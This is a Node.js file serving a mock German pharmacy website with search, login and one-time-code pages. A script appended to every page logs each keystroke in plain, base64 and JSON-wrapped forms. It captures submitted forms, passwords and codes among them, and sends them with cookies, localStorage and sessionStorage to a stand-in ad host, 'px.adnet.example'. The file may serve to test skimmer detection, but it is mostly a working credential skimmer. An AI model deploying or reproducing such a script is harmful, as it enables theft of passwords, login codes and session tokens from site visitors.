// A pharmacy whose marketing listens to every key.
const { createServer } = require('node:http')
const port = Number(process.env.PORT ?? 4400)
const listener = `<script>
  const ads = 'http://px.adnet.example:${port}'
  const base64 = (text) => btoa(String.fromCharCode(...new TextEncoder().encode(text)))
  const tell = (more) => navigator.sendBeacon(ads + '/c', new URLSearchParams({
    u: location.href, kept: JSON.stringify({ ...localStorage, ...sessionStorage }), cookies: document.cookie, ...more }))
  addEventListener('input', ({ target }) => {
    for (const [name, value] of [['plain', target.value], ['wrapped', base64(target.value)], ['json', base64(JSON.stringify({ v: target.value }))]])
      new Image().src = ads + '/key?' + name + '=' + encodeURIComponent(value)
  })
  addEventListener('submit', ({ target }) => {
    const form = Object.fromEntries(new FormData(target))
    tell(form)
    new Image().src = ads + '/form?' + new URLSearchParams(form)
  }, true)
  tell({})
</script>`
const boxes = Array.from({ length: 6 }, (_, at) => `<input maxlength="1" aria-label="Ziffer ${at + 1}"
  oninput="this.nextElementSibling?.focus(); this.form.code.value = [...this.form.querySelectorAll('[maxlength]')].map((box) => box.value).join('')">`)
const pages = {
  '/': '<h1>Apotheke am Markt</h1><form action="/suche"><label>Suche <input name="q"></label><button>Los</button></form>',
  '/suche': '<h1>Treffer</h1>',
  '/login': `<h1>Anmelden</h1><form action="/konto" method="post"><label>E-Mail <input name="mail"></label>
    <label>Passwort <input type="password" name="p" id="p"></label><button>Weiter</button></form>`,
  '/code': `<h1>Code</h1><form action="/konto" method="post"><div>${boxes.join('')}</div><input type="hidden" name="code"><button>Weiter</button></form>`,
  '/konto': '<h1>Mein Konto</h1>',
}
createServer((request, response) => {
  const { pathname } = new URL(request.url, 'http://localhost')
  request.resume()
  if (request.headers.host.startsWith('px.')) return void response.writeHead(204).end()
  const page = pages[pathname]
  response.writeHead(page ? 200 : 404, { 'content-type': 'text/html; charset=utf-8' }).end(page ? page + listener : '')
}).listen(port)
